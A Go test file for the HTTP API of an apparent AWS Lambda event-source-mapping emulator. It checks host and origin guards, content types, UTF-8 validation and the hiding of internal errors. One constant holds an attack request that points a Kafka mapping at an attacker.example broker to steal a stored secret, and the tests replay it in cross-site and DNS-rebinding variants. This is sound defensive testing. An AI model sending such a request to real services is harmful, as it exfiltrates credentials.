package api

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aws/aws-sdk-go-v2/service/lambda"

	"github.com/esmd/esmd/esm"
)

// exfiltration is the create request of the attack in issue 19: a
// self-managed Kafka mapping that names the attacker's broker and a
// BASIC_AUTH secret esmd holds, so that esmd sends the password there.
const exfiltration = `{"FunctionName":"f","Topics":["t"],"StartingPosition":"LATEST",
 "SelfManagedEventSource":{"Endpoints":{"KAFKA_BOOTSTRAP_SERVERS":["attacker.example:9092"]}},
 "SourceAccessConfigurations":[{"Type":"BASIC_AUTH","URI":"arn:aws:secretsmanager:us-east-1:111111111111:secret:kafka"}]}`

// TestExfiltrationIsRefused replays the attack three ways a browser or a
// stranger can send it; none reaches the engine.
func TestExfiltrationIsRefused(t *testing.T) {
	for _, tc := range []struct {
		name   string
		policy Policy
		header map[string]string
		status int
		code   string
	}{
		{"unsigned, auth on", Policy{Verifier: NewVerifier(testCreds, nil)},
			map[string]string{"Content-Type": "application/json"}, 403, ErrTypeMissingToken},
		{"cross-origin text/plain (no preflight)", Policy{},
			map[string]string{"Content-Type": "text/plain", "Origin": "https://attacker.example"}, 403, ErrTypeAccessDenied},
		{"text/plain without Origin", Policy{},
			map[string]string{"Content-Type": "text/plain;charset=UTF-8"}, 415, esm.ErrTypeUnsupportedMediaType},
		{"form post from a navigation", Policy{},
			map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Sec-Fetch-Site": "cross-site"}, 403, ErrTypeAccessDenied},
		{"DNS rebinding", Policy{},
			map[string]string{"Content-Type": "application/json", "Host": "rebind.attacker.example:9000"}, 403, ErrTypeAccessDenied},
	} {
		t.Run(tc.name, func(t *testing.T) {
			env := startProtected(t, tc.policy)
			req, _ := http.NewRequest("POST", env.srv.URL+"/2015-03-31/event-source-mappings", strings.NewReader(exfiltration))
			for k, v := range tc.header {
				if k == "Host" {
					req.Host = v
				} else {
					req.Header.Set(k, v)
				}
			}
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tc.status || resp.Header.Get("X-Amzn-ErrorType") != tc.code {
				t.Errorf("got %d %s, want %d %s", resp.StatusCode, resp.Header.Get("X-Amzn-ErrorType"), tc.status, tc.code)
			}
			ms, _, err := env.engine.List(context.Background(), esm.ListInput{})
			if err != nil || len(ms) != 0 {
				t.Errorf("mappings after the attack: %d (%v)", len(ms), err)
			}
		})
	}
}

func TestGuard(t *testing.T) {
	var reached int
	next := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached++
		w.WriteHeader(200)
	})
	h := Protect(next, Policy{BindHost: "esmd.internal", AllowedHosts: []string{"api.example.com"},
		AllowedOrigins: []string{"https://console.example.com"}})
	const path = "http://127.0.0.1:9000/2015-03-31/event-source-mappings/"
	for _, tc := range []struct {
		name, method, target, body string
		host                       string
		header                     map[string]string
		status                     int
		code                       string
		check                      func(t *testing.T, rec *httptest.ResponseRecorder)
	}{
		{name: "loopback IP", method: "GET", target: path, status: 200},
		{name: "localhost", method: "GET", target: path, host: "localhost:9000", status: 200},
		{name: "IPv6 literal", method: "GET", target: path, host: "[::1]:9000", status: 200},
		{name: "bind host name", method: "GET", target: path, host: "ESMD.internal.:9000", status: 200},
		{name: "allowed host", method: "GET", target: path, host: "api.example.com", status: 200},
		{name: "other name", method: "GET", target: path, host: "evil.example", status: 403, code: ErrTypeAccessDenied},
		{name: "no Host", method: "GET", target: path, host: "-", status: 403, code: ErrTypeAccessDenied},
		{name: "allowed origin", method: "POST", target: path, body: "{}",
			header: map[string]string{"Origin": "https://console.example.com", "Content-Type": "application/json"}, status: 200,
			check: func(t *testing.T, rec *httptest.ResponseRecorder) {
				if rec.Header().Get("Access-Control-Allow-Origin") != "https://console.example.com" {
					t.Errorf("CORS headers %v", rec.Header())
				}
			}},
		{name: "preflight of an allowed origin", method: "OPTIONS", target: path,
			header: map[string]string{"Origin": "https://console.example.com", "Access-Control-Request-Method": "POST",
				"Access-Control-Request-Headers": "authorization,content-type,x-amz-date"}, status: 200,
			check: func(t *testing.T, rec *httptest.ResponseRecorder) {
				if rec.Header().Get("Access-Control-Allow-Headers") != "authorization,content-type,x-amz-date" ||
					!strings.Contains(rec.Header().Get("Access-Control-Allow-Methods"), "POST") {
					t.Errorf("preflight headers %v", rec.Header())
				}
			}},
		{name: "preflight of another origin", method: "OPTIONS", target: path,
			header: map[string]string{"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}, status: 403, code: ErrTypeAccessDenied},
		{name: "null origin", method: "GET", target: path, header: map[string]string{"Origin": "null"}, status: 403, code: ErrTypeAccessDenied},
		{name: "same-origin browser request without Origin", method: "GET", target: path, header: map[string]string{"Sec-Fetch-Site": "same-origin"}, status: 200},
		{name: "JSON with charset", method: "PUT", target: path + "x", body: "{}",
			header: map[string]string{"Content-Type": "application/json; charset=utf-8"}, status: 200},
		{name: "JSON in capitals", method: "POST", target: path, body: "{}",
			header: map[string]string{"Content-Type": "Application/JSON"}, status: 200},
		{name: "no content type", method: "POST", target: path, body: "{}", status: 415, code: esm.ErrTypeUnsupportedMediaType},
		{name: "form", method: "POST", target: path, body: "a=b",
			header: map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, status: 415, code: esm.ErrTypeUnsupportedMediaType},
		{name: "multipart", method: "PUT", target: path + "x", body: "--b--",
			header: map[string]string{"Content-Type": "multipart/form-data; boundary=b"}, status: 415, code: esm.ErrTypeUnsupportedMediaType},
		{name: "empty POST needs no type", method: "POST", target: path, status: 200},
		{name: "DELETE with query", method: "DELETE", target: path + "x?tagKeys=a", status: 200},
		{name: "body over the limit", method: "POST", target: path, body: strings.Repeat(" ", MaxBodyBytes+1),
			header: map[string]string{"Content-Type": "application/json"}, status: 413, code: esm.ErrTypeRequestTooLarge},
	} {
		t.Run(tc.name, func(t *testing.T) {
			reached = 0
			req := httptest.NewRequest(tc.method, tc.target, strings.NewReader(tc.body))
			if tc.body == "" {
				req.ContentLength = 0
			}
			switch tc.host {
			case "":
			case "-":
				req.Host = ""
			default:
				req.Host = tc.host
			}
			for k, v := range tc.header {
				req.Header.Set(k, v)
			}
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			if rec.Code != tc.status || rec.Header().Get("X-Amzn-ErrorType") != tc.code {
				t.Fatalf("got %d %s %s, want %d %s", rec.Code, rec.Header().Get("X-Amzn-ErrorType"), rec.Body, tc.status, tc.code)
			}
			if wantReach := tc.status == 200 && tc.method != "OPTIONS"; (reached == 1) != wantReach {
				t.Errorf("handler reached %d times", reached)
			}
			if tc.code != "" {
				var body map[string]string
				if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || body["message"] == "" {
					t.Errorf("error body %s", rec.Body)
				}
			}
			if tc.check != nil {
				tc.check(t, rec)
			}
		})
	}
}

// TestInvalidUTF8IsRefused: bytes that are not UTF-8, in the body, a
// \u escape of half a surrogate pair, or in a percent-decoded path or
// query parameter, are refused instead of being stored as U+FFFD.
func TestInvalidUTF8IsRefused(t *testing.T) {
	env := start(t)
	for _, tc := range []struct {
		name, method, path, body string
		code, msg                string
	}{
		{"start byte", "POST", "/2015-03-31/event-source-mappings", "{\"FunctionName\":\"f\xff\"}",
			esm.ErrTypeInvalidRequestContent, "Could not parse request body into json: Invalid UTF-8 start byte 0xff\n at [Source: (byte[]); line: 1, column: 19]"},
		{"middle byte", "POST", "/2015-03-31/event-source-mappings", "{\n\"FunctionName\":\"\xe2\x82(\"}",
			esm.ErrTypeInvalidRequestContent, "Could not parse request body into json: Invalid UTF-8 middle byte 0x28\n at [Source: (byte[]); line: 2, column: 19]"},
		{"truncated sequence", "POST", "/2015-03-31/event-source-mappings", "{\"FunctionName\":\"\xe2",
			esm.ErrTypeInvalidRequestContent, "Could not parse request body into json: Unexpected end-of-input in a UTF-8 sequence starting with byte 0xe2"},
		{"lone low surrogate", "POST", "/2015-03-31/event-source-mappings", `{"FunctionName":"f\udc00"}`,
			esm.ErrTypeInvalidRequestContent, `Could not parse request body into json: Invalid UTF-16 surrogate \udc00 at offset 18`},
		{"lone high surrogate", "POST", "/2017-03-31/tags/arn:aws:lambda:us-east-1:111111111111:event-source-mapping:x", `{"Tags":{"k":"\ud800x"}}`,
			esm.ErrTypeInvalidRequestContent, `Could not parse request body into json: Invalid UTF-16 surrogate \ud800`},
		{"path", "GET", "/2015-03-31/event-source-mappings/%ff", "",
			esm.ErrTypeInvalidParameterValue, "The request path is not valid UTF-8 once percent-decoded"},
		{"query", "GET", "/2015-03-31/event-source-mappings/?FunctionName=%C3%28", "",
			esm.ErrTypeInvalidParameterValue, `The query parameter "FunctionName" is not valid UTF-8 once percent-decoded`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp, body := rawDo(t, tc.method, env.srv.URL+tc.path, strings.NewReader(tc.body))
			if resp.StatusCode != 400 || resp.Header.Get("X-Amzn-ErrorType") != tc.code {
				t.Fatalf("got %d %s %v", resp.StatusCode, resp.Header.Get("X-Amzn-ErrorType"), body)
			}
			if msg, _ := body["message"].(string); !strings.HasPrefix(msg, tc.msg) {
				t.Errorf("message %q", msg)
			}
		})
	}
	// A valid pair and escaped backslashes pass.
	_, err := env.client.ListEventSourceMappings(context.Background(), &lambda.ListEventSourceMappingsInput{})
	if err != nil {
		t.Fatal(err)
	}
	for _, ok := range []string{`{"a":"\ud83d\ude00"}`, `{"a":"\\udc00"}`, `{"a":"é\u00e9"}`, `{"a":"\u12"}`} {
		if msg := invalidText([]byte(ok)); msg != "" {
			t.Errorf("%s: %s", ok, msg)
		}
	}
}

func FuzzInvalidText(f *testing.F) {
	for _, s := range []string{`{"a":"\ud83d\ude00"}`, `{"a":"\udc00"}`, "{\"\xff\"}", `\u`, `\ud800\u`, `"\\\\u"`} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		msg := invalidText(b)
		if msg == "" && !utf8.Valid(b) {
			t.Fatalf("invalid UTF-8 passed: %q", b)
		}
		if msg != "" && utf8.Valid(b) && !strings.Contains(msg, "surrogate") {
			t.Fatalf("valid text refused: %q: %s", b, msg)
		}
		// What passes decodes without U+FFFD unless the input spelled one.
		var v any
		if msg == "" && json.Unmarshal(b, &v) == nil {
			out, _ := json.Marshal(v)
			if strings.Contains(string(out), "\ufffd") && !strings.Contains(string(b), "\ufffd") && !strings.Contains(strings.ToLower(string(b)), `\ufffd`) {
				t.Fatalf("%q decoded with U+FFFD: %s", b, out)
			}
		}
	})
}

// faultyEngine fails every call it implements with an error that names
// what a caller must not learn: a file, an address.
type faultyEngine struct{ Engine }

var errInternal = errors.New("open /var/lib/esmd/esmd.db: input/output error; dial tcp 10.0.0.7:5432: connect: connection refused")

func (faultyEngine) Get(context.Context, string) (*esm.Mapping, error) { return nil, errInternal }
func (faultyEngine) ListTags(context.Context, string) (map[string]string, error) {
	return nil, fmt.Errorf("esm: %w", errInternal)
}

// TestInternalErrorsAreNotShown: an error of esmd's own (not an API
// error) answers 500 ServiceException with a fixed message, as Lambda
// does; its text, which may name a file or an address, goes to the log.
func TestInternalErrorsAreNotShown(t *testing.T) {
	var logged strings.Builder
	h := New(faultyEngine{}, slog.New(slog.NewTextHandler(&logged, nil)))
	for _, target := range []string{"/2015-03-31/event-source-mappings/abc", "/2017-03-31/tags/arn:aws:lambda:us-east-1:000000000000:event-source-mapping:abc"} {
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", target, nil))
		if rec.Code != 500 || rec.Header().Get("X-Amzn-ErrorType") != esm.ErrTypeService {
			t.Errorf("%s: %d %s", target, rec.Code, rec.Header().Get("X-Amzn-ErrorType"))
		}
		if b := rec.Body.String(); strings.Contains(b, "esmd.db") || strings.Contains(b, "10.0.0.7") {
			t.Errorf("%s: the answer shows the internal error: %s", target, b)
		}
	}
	if !strings.Contains(logged.String(), "esmd.db") {
		t.Errorf("the internal error is not logged: %s", logged.String())
	}
	rec := httptest.NewRecorder()
	WriteError(rec, errInternal)
	if b := rec.Body.String(); rec.Code != 500 || strings.Contains(b, "esmd.db") {
		t.Errorf("WriteError: %d %s", rec.Code, b)
	}
}
